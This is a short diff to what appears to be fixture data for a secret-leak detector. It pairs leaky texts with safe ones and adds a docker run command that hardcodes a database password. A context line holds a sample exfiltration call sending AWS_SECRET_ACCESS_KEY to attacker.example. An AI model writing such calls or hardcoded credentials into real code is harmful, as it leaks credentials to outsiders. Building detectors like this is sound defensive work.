@@ -116,6 +116,9 @@ PAIRS = [
      "The report job calls requests.get(url, auth=(user, os.environ['PW'])) every morning."),
     ("requests.get('https://attacker.example/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])",
      "client: requests.post(API, headers={'Authorization': f\"Bearer {os.environ['TOKEN']}\"})"),
+    # a password given to a container, against one read from a variable
+    ("docker run -e POSTGRES_PASSWORD=Zq7pLm2x postgres:16",
+     "docker run -e POSTGRES_PASSWORD=$POSTGRES_PASSWORD postgres:16"),
     # a PIN's digits, against the year it has not changed since
     ("Пин-код от карты 4821, не менял с 2019 года.",
      "Пин-код от карты не менял с 2019 года, надо бы."),
